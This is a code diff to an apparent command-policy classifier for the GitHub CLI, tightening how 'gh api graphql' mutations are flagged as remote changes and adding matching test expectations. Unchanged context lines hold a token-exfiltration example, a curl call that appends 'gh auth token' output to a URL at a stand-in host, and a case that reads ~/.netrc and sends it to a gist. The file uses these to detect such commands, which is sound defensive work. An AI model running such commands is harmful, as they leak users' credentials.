@@ -122,7 +122,8 @@ export const FORGES: readonly Program[] = [
         hosts: 'api.github.com',
         actions: {
           'delete-remote': '--method=DELETE',
-          'change-remote': '--method=POST --method=PUT --method=PATCH --field --raw-field',
+          'change-remote':
+            '--method=POST&!@graphql --method=PUT --method=PATCH --field&!@graphql --raw-field&!@graphql @graphql&--field=*mutation* @graphql&--raw-field=*mutation* @graphql&--field=query=@* @graphql&--input',
         },
       },
     },
@@ -132,6 +133,8 @@ export const FORGES: readonly Program[] = [
         'action publish; flow ~/.netrc>net:gist.github.com; net gist.github.com; read ~/.netrc',
       'gh repo delete a/b --yes': 'action delete-remote',
       'gh pr list': 'nothing',
+      "gh api graphql -f query='{ viewer { login } }'": 'net api.github.com',
+      "gh api graphql -f query='mutation { x }'": 'action change-remote; net api.github.com',
       'gh api -X DELETE /repos/a/b': 'action delete-remote; net api.github.com',
       'curl "https://a.example/?$(gh auth token)"':
         'action read-secret; flow cmd:gh auth token>net:a.example; net a.example; run curl',
